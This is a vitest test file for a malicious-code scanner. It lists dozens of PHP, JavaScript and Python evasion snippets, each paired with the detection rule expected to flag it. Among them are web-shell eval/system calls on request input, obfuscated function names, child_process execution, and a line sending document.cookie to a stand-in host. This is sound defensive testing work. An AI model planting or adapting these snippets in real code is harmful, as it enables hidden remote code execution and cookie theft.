import { describe, expect, it } from "vitest";
import { analyseSources } from "./testing/analyse-samples.ts";

const php = (title: string, source: string, ...rules: string[]) => ({
  title,
  path: "a.php",
  source: `<?php\n${source}`,
  rules,
});
const js = (title: string, source: string, ...rules: string[]) => ({ title, path: "a.mjs", source, rules });
const py = (title: string, source: string, ...rules: string[]) => ({ title, path: "a.py", source, rules });

const evasions = [
  php("capitals and a namespace", "namespace A; \\SyStEm($_GET['c']);", "process-received"),
  php("a dangerous beginning before what is sent", "$f = 'sys' . $_GET['f']; $f($_GET['x']);", "call-received"),
  php("an empty beginning before what is sent", "$f = '' . $_GET['f']; $f($_GET['x']);", "call-received"),
  php("a comment inside", "eval/* x */($_POST['x']);", "eval-hidden"),
  php("pieces over several lines", "$f = 'sy'; $f .= 'st'; $f .= 'em'; $f('id');", "call-hidden"),
  php("sprintf", "$f = sprintf('%s%s', 'sys', 'tem'); $f('id');", "call-hidden"),
  php("heredoc", "$f = <<<X\nsystem\nX;\n$f('id');", "call-hidden"),
  php("a constant", "const F = 'sys' . 'tem'; $f = F; $f('id');", "call-hidden"),
  php("define", "define('F', 'sys' . 'tem'); $f = F; $f('id');", "call-hidden"),
  php("str_replace", "$f = str_replace('x', '', 'sxyxsxtxexm'); $f('id');", "call-hidden"),
  php("a ternary", "$f = $a ? 'system' : 'exec'; $f($_GET['c']);", "call-hidden"),
  php("ReflectionFunction", "(new ReflectionFunction('system'))->invoke('id');", "process"),
  php("$GLOBALS", "$GLOBALS['_GET']['f']($GLOBALS['_POST']['x']);", "call-received"),
  php("a nested array", "$a = ['x' => $_POST]; eval($a['x']['c']);", "eval-hidden"),
  php("a reference", "$a = &$_POST; eval($a['c']);", "eval-hidden"),
  php("foreach", "foreach ($_POST as $k => $v) { eval($v); }", "eval-hidden"),
  php("list", "[$f, $x] = [$_GET['f'], $_GET['x']]; $f($x);", "call-received"),
  php("extract", "extract($_GET); $f($x);", "variables-received"),
  php(
    "a static property",
    "class A { static $f = 'sys' . 'tem'; static function r() { $f = self::$f; $f('id'); } }",
    "call-hidden",
  ),
  php("a short open tag", "?><? eval($_POST[1]);", "eval-hidden"),
  php("hex escapes", '$f = "\\x73\\x79\\x73\\x74\\x65\\x6d"; $f("id");', "call-hidden"),
  php("pack", "$f = pack('H*', '73797374656d'); $f('id');", "call-hidden"),
  php("an error handler", "set_error_handler('system'); trigger_error($_GET['c']);", "process"),
  js(
    "a cookie in a picture's address",
    "new Image().src = 'https://stat.evil-cdn.net/?c=' + document.cookie;",
    "host-undeclared",
  ),
  js("a script by setAttribute", "s.setAttribute('src', 'https://stat.evil-cdn.net/x.js');", "script-elsewhere"),
  js("an address of axios", "axios.create({ baseURL: 'https://stat.evil-cdn.net' }).post('/x');", "host-undeclared"),
  js("Reflect.apply", "Reflect.apply(eval, null, [code]);", "eval"),
  js("optional call", "eval?.(code);", "eval"),
  js("call and apply", "eval.call(null, code); Function.apply(null, [code])();", "eval"),
  js("a template", "window[`ev${'al'}`](code);", "call-hidden"),
  js("an escape", "window['\\x65\\x76' + '\\x61l'](code);", "call-hidden"),
  js("a name in base64", "globalThis[atob('ZXZhbA==')](code);", "call-hidden"),
  js("the main module", "process.mainModule.require('child_process').exec('id');", "process"),
  js(
    "createRequire",
    "import { createRequire } from 'module'; const r = createRequire(import.meta.url); r('child_process').exec('id');",
    "process",
  ),
  js("a renamed part", "const { exec: e } = await import('node:child_process'); e('id');", "process"),
  js("then", "import('child_process').then((m) => m.exec('id'));", "process"),
  js("bind", "const e = eval.bind(null); e(code);", "eval"),
  js("the async constructor", "const A = (async () => {}).constructor; new A('x')();", "eval"),
  js("a comma", "(1, eval)(code);", "eval"),
  js("a getter of builtins", "process.getBuiltinModule('child_' + 'process').execSync('id');", "call-hidden"),
  js(
    "Object.values of the module",
    "const cp = require('child_process'); const k = 'ex' + 'ec'; cp[k]('id');",
    "call-hidden",
  ),
  py("a dictionary of builtins", "__builtins__.__dict__['ev' + 'al']('1')", "call-hidden"),
  py("globals", "globals()['__builtins__']['ex' + 'ec']('1')", "call-hidden"),
  py("importlib", "import importlib\nimportlib.import_module('o' + 's').system('id')", "call-hidden"),
  py("a star", "from os import *\nsystem('id')", "process"),
  py("vars", "import os\nvars(os)['sys' + 'tem']('id')", "call-hidden"),
  py("join", "import os\ngetattr(os, ''.join(['sys', 'tem']))('id')", "call-hidden"),
  py("bytes", "exec(bytes([112, 114, 105, 110, 116]))", "eval-hidden"),
  py("chr", "exec(''.join(chr(c ^ 3) for c in data))", "eval-hidden"),
  py("a lambda", "run = lambda c: exec(c)\nrun(x)", "eval"),
  py("reversed", "import os\ngetattr(os, 'metsys'[::-1])('id')", "call-hidden"),
  py("hex", "exec(bytes.fromhex('7072696e74283129'))", "eval-hidden"),
];

const found = analyseSources(evasions);

describe("evasions", () => {
  it.each(evasions.map((evasion, at) => ({ ...evasion, at })))("$path: $title does not help", ({ rules, at }) => {
    expect(found[at]?.map(({ rule }) => rule)).toEqual(expect.arrayContaining(rules));
  });
});
